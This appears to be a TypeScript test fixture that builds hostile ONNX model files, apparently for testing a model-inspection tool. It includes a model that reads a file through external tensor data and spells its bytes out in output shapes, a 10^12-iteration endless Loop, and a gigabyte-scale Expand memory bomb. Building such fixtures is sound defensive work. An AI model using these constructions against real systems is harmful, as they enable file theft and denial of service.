// Hostile ONNX files, built in code (onnx-proto), byte for byte the attacks the probe found.
import type { onnx as O } from "onnx-proto";
import { makeAttribute } from "../../src/engine/onnx/attributes.js";
import { DataType, onnx } from "../../src/engine/onnx/proto.js";
import { int64Tensor } from "../../src/engine/onnx/tensor.js";

const F = DataType.FLOAT;

const valueInfo = (name: string, elemType: number, dims?: number[]) =>
  onnx.ValueInfoProto.create({
    name,
    type: { tensorType: { elemType, ...(dims ? { shape: { dim: dims.map((d) => ({ dimValue: d })) } } : {}) } },
  });

const node = (opType: string, input: string[], output: string[], attrs: O.IAttributeProto[] = [], name = `${opType}_${output[0]}`) =>
  onnx.NodeProto.create({ name, opType, input, output, attribute: attrs });

const graphAttr = (name: string, g: O.IGraphProto) => onnx.AttributeProto.create({ name, type: onnx.AttributeProto.AttributeType.GRAPH, g });

export function encode(graph: O.IGraphProto, extra: Partial<O.IModelProto> = {}): Uint8Array {
  return onnx.ModelProto.encode(
    onnx.ModelProto.create({ irVersion: 8, producerName: "hostile", opsetImport: [{ domain: "", version: 17 }], graph, ...extra }),
  ).finish();
}

/** A tensor whose bytes onnxruntime would read from `location` (relative to the model's directory). */
export function externalTensor(name: string, location: string, length: number, withDataLocation = true): O.TensorProto {
  return onnx.TensorProto.create({
    name,
    dims: [length],
    dataType: DataType.UINT8,
    ...(withDataLocation ? { dataLocation: onnx.TensorProto.DataLocation.EXTERNAL } : {}),
    externalData: [
      { key: "location", value: location },
      { key: "offset", value: "0" },
      { key: "length", value: String(length) },
    ],
  });
}

/**
 * The exfiltration model: initializer `secret` is `bytes` bytes of external data at `location`;
 * for each byte i, Slice -> Cast(int64) -> ConstantOfShape gives a tensor of length byte[i], broadcast against the
 * input so it counts as a layer: the catalogue's shapes spell the file.
 */
export function exfiltrationModel(location: string, bytes: number, placement: "initializer" | "constant" = "initializer"): Uint8Array {
  const nodes: O.INodeProto[] = [];
  const init: O.ITensorProto[] = [];
  if (placement === "initializer") init.push(externalTensor("secret", location, bytes));
  else nodes.push(node("Constant", [], ["secret"], [makeAttribute("value", { t: externalTensor("secret_value", location, bytes) })]));
  const outputs: string[] = [];
  for (let i = 0; i < bytes; i++) {
    init.push(int64Tensor(`s${i}`, [1], [i]), int64Tensor(`e${i}`, [1], [i + 1]));
    nodes.push(
      node("Slice", ["secret", `s${i}`, `e${i}`], [`b${i}`]),
      node("Cast", [`b${i}`], [`n${i}`], [makeAttribute("to", { i: DataType.INT64 })]),
      node("ConstantOfShape", [`n${i}`], [`c${i}`]),
      node("Add", ["x", `c${i}`], [`leak${i}`]),
    );
    outputs.push(`leak${i}`);
  }
  return encode({ name: "exfiltrate", node: nodes, initializer: init, input: [valueInfo("x", F, [1])], output: outputs.map((o) => valueInfo(o, F)) });
}

/** Wraps `inner` (a graph with no inputs producing `out`) as the then/else branches of an If in the main graph. */
export function inSubgraph(innerInit: O.ITensorProto, innerNodes: O.INodeProto[], out: string): Uint8Array {
  const branch = onnx.GraphProto.create({ name: "branch", node: innerNodes, initializer: [innerInit], output: [valueInfo(out, F)] });
  return encode({
    name: "if-model",
    node: [
      node("ReduceSum", ["x"], ["sx"], [makeAttribute("keepdims", { i: 0 })]),
      node("Greater", ["sx", "zero"], ["cond"]),
      node("If", ["cond"], ["y0"], [graphAttr("then_branch", branch), graphAttr("else_branch", branch)]),
      node("Add", ["x", "y0"], ["y"]),
    ],
    initializer: [onnx.TensorProto.create({ name: "zero", dims: [], dataType: F, floatData: [0] })],
    input: [valueInfo("x", F, [1])],
    output: [valueInfo("y", F)],
  });
}

/**
 * 319 bytes in the report: a Loop whose trip count is 10^12 and whose body adds 1 each time. onnxruntime runs it
 * in one call that never returns in practice.
 */
export function endlessLoopModel(trips = 1e12): Uint8Array {
  const body = onnx.GraphProto.create({
    name: "body",
    node: [node("Identity", ["cond_in"], ["cond_out"]), node("Add", ["v_in", "one"], ["v_out"])],
    initializer: [onnx.TensorProto.create({ name: "one", dims: [1], dataType: F, floatData: [1] })],
    input: [valueInfo("i", DataType.INT64, []), valueInfo("cond_in", DataType.BOOL, []), valueInfo("v_in", F, [1])],
    output: [valueInfo("cond_out", DataType.BOOL, []), valueInfo("v_out", F, [1])],
  });
  return encode({
    name: "loop",
    node: [node("Loop", ["trips", "go", "x"], ["y"], [graphAttr("body", body)])],
    initializer: [int64Tensor("trips", [], [trips]), onnx.TensorProto.create({ name: "go", dims: [], dataType: DataType.BOOL, int32Data: [1] })],
    input: [valueInfo("x", F, [1])],
    output: [valueInfo("y", F, [1])],
  });
}

/** 123 bytes in the report: Expand of a [1,1] input to side x side floats (20000^2 = 1.6 GB per copy). */
export function expandBombModel(side = 20000): Uint8Array {
  return encode({
    name: "expand",
    node: [node("Expand", ["x", "shape"], ["y"])],
    initializer: [int64Tensor("shape", [2], [side, side])],
    input: [valueInfo("x", F, [1, 1])],
    output: [valueInfo("y", F)],
  });
}
